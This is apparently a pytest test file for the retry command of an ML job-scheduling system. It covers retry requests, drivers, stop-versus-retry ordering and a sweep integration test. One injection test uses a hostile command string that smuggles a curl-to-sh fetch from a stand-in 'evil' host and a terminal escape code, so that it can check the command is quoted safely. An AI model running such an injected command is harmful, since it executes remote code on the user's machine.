"""Trying again what failed: the wish, who heeds it, and what outweighs what."""

import os
import shlex
import subprocess
import sys
import time
from datetime import timedelta
from pathlib import Path

import pytest
from plausible_rows import BASE, TUNED, base_run, tuned_run
from shared_cluster import SharedCluster

from database import open_ledger, queries, write
from database.clock import moment
from database.live import Driver, Retry, Stop
from database.schema import Event, Experiment
from jobs.__main__ import main
from jobs.loading import load
from jobs.retry import NothingToRetryError, Retries, ask_to_retry
from jobs.stopping import Stops

ROOT = Path(__file__).parent.parent
OTHER = "07her07her07"


@pytest.fixture
def failed(ledger):
    """An experiment with a run that failed, one that was stopped by hand, and one that is done."""
    write(
        ledger,
        [
            base_run(),
            tuned_run(state="failed", provenance={"command": "-m jobs run mine/mine.yaml"}),
            tuned_run(OTHER, state="stopped", label="stopped"),
            Event(run=TUNED, kind="failed", message="GangError: lost"),
            Event(run=OTHER, kind="stopped", message="stopped by ada at 07:41:05 UTC; ..."),
            Experiment(name="mine", text="", runs=[BASE, TUNED, OTHER]),
        ],
    )
    return ledger


def at_work(ledger):
    now = moment(ledger)
    driver = {"id": "d" * 32, "experiment": "mine", "host": "node-7", "process": 4, "cluster": "c"}
    write(ledger, [Driver(**driver, started_at=now, at=now)])


def test_a_living_driver_is_told_of_every_run_that_failed_or_was_stopped(failed):
    at_work(failed)
    since = moment(failed) - timedelta(seconds=1)
    wished = ask_to_retry(failed, "mine", "ada")
    heeded = Retries(failed, since=since)
    heeded.look()

    assert {run.id for run in wished.runs} == {TUNED, OTHER}
    assert [heeded.takes(run) for run in (TUNED, OTHER, BASE)] == [True, True, False]
    assert "node-7" in str(wished)


def test_a_driver_that_is_silent_heeds_a_wish_when_it_is_heard_of_again(failed):
    since = moment(failed) - timedelta(minutes=5)
    driver = {"id": "d" * 32, "experiment": "mine", "host": "node-7", "process": 4, "cluster": "c"}
    write(failed, [Driver(**driver, started_at=since, at=since)])
    wished = ask_to_retry(failed, TUNED, "ada")
    heeded = Retries(failed, since=since)
    heeded.look()

    assert wished.driver is None and "node-7" in str(wished)
    assert heeded.takes(TUNED)


def test_a_command_of_the_ledger_is_shown_so_that_a_shell_runs_nothing_else(failed):
    command = "-m jobs run x.yaml; curl 'evil' | sh \x1b[2J"
    foreign = "f0ee16f0ee16"
    write(failed, [tuned_run(foreign, state="failed", provenance={"command": command})])
    said = str(ask_to_retry(failed, foreign, "ada"))

    assert shlex.split(said.partition("goes on with it: ")[2])[:5] == [
        "python", "-m", "jobs", "run", "x.yaml;"
    ]  # fmt: skip
    assert "\x1b" not in said


def test_each_wish_is_taken_once_and_a_new_one_again(failed):
    at_work(failed)
    heeded = Retries(failed, since=moment(failed) - timedelta(seconds=1))
    ask_to_retry(failed, TUNED, "ada")
    heeded.look()
    assert heeded.takes(TUNED)
    heeded.look()
    assert not heeded.takes(TUNED)

    write(failed, [Retry(run=TUNED, at=moment(failed) + timedelta(seconds=1))])
    heeded.look()
    assert heeded.takes(TUNED)


def test_a_driver_does_not_heed_a_wish_from_before_it_began(failed):
    at_work(failed)
    ask_to_retry(failed, TUNED, "ada")
    heeded = Retries(failed, since=moment(failed) + timedelta(seconds=1))
    heeded.look()

    assert not heeded.takes(TUNED)


def test_the_younger_of_a_wish_to_stop_and_one_to_try_again_counts(failed):
    now = moment(failed)
    stops = Stops(failed, since=now - timedelta(seconds=9))
    write(failed, [Stop(run=OTHER, at=now), Retry(run=OTHER, at=now + timedelta(seconds=1))])
    stops.look()
    assert stops.of(OTHER) is None

    write(failed, [Stop(run=OTHER, at=now + timedelta(seconds=2))])
    stops.look()
    assert stops.unwanted(OTHER)()


def test_without_a_driver_nothing_is_written_and_the_command_that_goes_on_is_named(
    failed, ledger_url, monkeypatch, capsys
):
    monkeypatch.setenv("CODELADDER_DATABASE_URL", ledger_url)

    assert main(["retry", TUNED]) == 1
    said = " ".join(capsys.readouterr().out.split())
    assert "No driver is working on" in said and "python -m jobs run mine/mine.yaml" in said
    heeded = Retries(failed, since=moment(failed) - timedelta(minutes=1))
    heeded.look()
    assert not heeded.takes(TUNED)


def test_the_command_tells_a_living_driver(failed, ledger_url, monkeypatch, capsys):
    at_work(failed)
    monkeypatch.setenv("CODELADDER_DATABASE_URL", ledger_url)

    assert main(["retry", "mine"]) == 0
    assert "tries again within seconds" in capsys.readouterr().out


@pytest.mark.parametrize(
    ("state", "said"), [("done", "nothing of it"), ("training", "is training")]
)
def test_a_run_that_did_not_fail_is_not_tried_again(ledger, state, said):
    write(ledger, [tuned_run(state=state, base=None)])

    with pytest.raises(NothingToRetryError, match=said):
        ask_to_retry(ledger, TUNED, "ada")


def test_what_a_sweep_gave_up_is_not_tried_again(ledger):
    why = Event(run=TUNED, kind="stopped", message="rung 1: its loss is 2.1, the median 1.4")
    write(ledger, [tuned_run(state="stopped", base=None), why])

    with pytest.raises(NothingToRetryError):
        ask_to_retry(ledger, TUNED, "ada")


SWEPT = f"""
models: {{m: {{path: {ROOT}/models/starter/falcon}}}}
datasets: [smoke]
methods:
  lora: {{kind: lora, rank: 4, learning_rate: 4.0e-3, steps: 8, batch_size: 4, max_length: 128,
          precision: fp32, held_out: 0.02, evaluate_every: 6}}
  long: {{kind: lora, rank: 2, learning_rate: 4.0e-3, steps: 2000, batch_size: 4, max_length: 128,
          precision: fp32}}
sweeps:
  lora: {{method: lora, grid: {{rank: [4, 8]}}, early_stop: {{asha: {{grace: 6, reduction: 2}}}}}}
benchmarks:
  starter: {{problems: 4, completions: 1, max_new_tokens: 16, report: [1]}}
baseline: false
"""


@pytest.mark.slow
def test_a_run_of_a_sweep_that_failed_is_tried_again_while_others_go_on(home, tmp_path):
    file = tmp_path / "swept.yaml"
    file.write_text(SWEPT)
    runs = {run.training.method_name: run for run in load(file).runs()}
    long = runs.pop("long")
    name, swept = min(runs.items())
    obstacle = home / swept.id / "attempts"
    obstacle.parent.mkdir(parents=True)
    obstacle.write_text("no folder can be made here")
    ledger = open_ledger()

    def states():
        return {run.id: run.state for run in queries.runs(ledger)}

    def until(run, *wanted):
        deadline = time.monotonic() + 240
        while states().get(run.id) not in wanted:
            assert driver.poll() is None and time.monotonic() < deadline, (name, states())
            time.sleep(0.2)

    with SharedCluster(gpus=3, cpus=4) as cluster:
        driver = cluster.driver(home, file)
        until(swept, "failed")
        obstacle.unlink()
        retry = [sys.executable, "-m", "jobs", "retry", swept.id]
        subprocess.run(retry, cwd=ROOT, env=os.environ, check=True)
        until(swept, "done", "stopped")  # it competes with the loss of the one that went on
        assert states()[long.id] == "training"

    log = (home / swept.id / "log.txt").read_text().partition("somebody wants it tried again")[2]
    assert "step 6 of 8" in log
    ledger.dispose()
